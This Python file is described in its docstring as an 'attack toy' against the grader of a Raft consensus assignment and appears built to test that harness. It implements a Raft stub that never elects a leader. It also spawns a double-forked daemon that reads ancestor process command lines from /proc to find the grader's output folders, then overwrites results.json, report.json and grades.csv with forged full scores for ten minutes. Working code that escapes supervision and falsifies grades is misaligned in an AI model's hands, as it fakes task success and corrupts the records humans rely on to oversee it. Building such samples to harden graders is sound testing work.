"""Attack toy: never elects; peer 0 leaves a daemon (double fork, own session) that keeps
rewriting results.json, report.json and the CSV with full marks for ten minutes, wherever
it can find them (its working directory's parents, and the -o/--output or --batch
folder on its ancestors' command lines: the grader's)."""

import json
import os
import sys
import time

NAME = "rewrites_results"


class Raft:
    """Never starts an election: every peer stays a follower in term 0."""

    def __init__(self, peers, me, persister, apply_ch):
        self.me = me
        self.dead = False

    def get_state(self):
        return 0, False

    def start(self, command):
        return -1, 0, False

    def snapshot(self, index, snapshot):
        pass

    def kill(self):
        self.dead = True


def say(what):
    """Leave a trace in the run's output (the failure logs), so tests see the attempt ran."""
    sys.stderr.write(f"ATTACK[{NAME}] {what}\n")
    sys.stderr.flush()

FORGED = {"results.json": json.dumps({"score": 1000, "tests": [], "output": "forged"}),
          "report.json": json.dumps({"score": 1000, "status": "graded", "forged": True}),
          "grades.csv": "submission,status,score,max_score\nrewrites_results,graded,1000,15\n"}


def _ancestors():
    pid = os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat", "rb") as fh:
                pid = int(fh.read().rsplit(b")", 1)[1].split()[1])
        except OSError:
            return
        yield pid


def _folders():
    cwd = os.getcwd()
    folders = {cwd, os.path.dirname(cwd), os.path.dirname(os.path.dirname(cwd))}
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                args = fh.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, arg in enumerate(args[:-1]):
            if arg in ("-o", "--output", "--batch"):
                folders.add(args[i + 1])
                folders.add(os.path.join(args[i + 1], NAME))
    return folders


def _rewrite_forever():
    wrote = set()
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline:
        for folder in _folders():
            for name, text in FORGED.items():
                path = os.path.join(folder, name)
                try:
                    with open(path, "w") as fh:
                        fh.write(text)
                    wrote.add(path)
                except OSError:
                    pass
        time.sleep(0.2)


def _detach():
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                say(f"daemon {os.getpid()} detached in its own session")
                _rewrite_forever()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def make(peers, me, persister, apply_ch):
    if me == 0:
        _detach()
    return Raft(peers, me, persister, apply_ch)
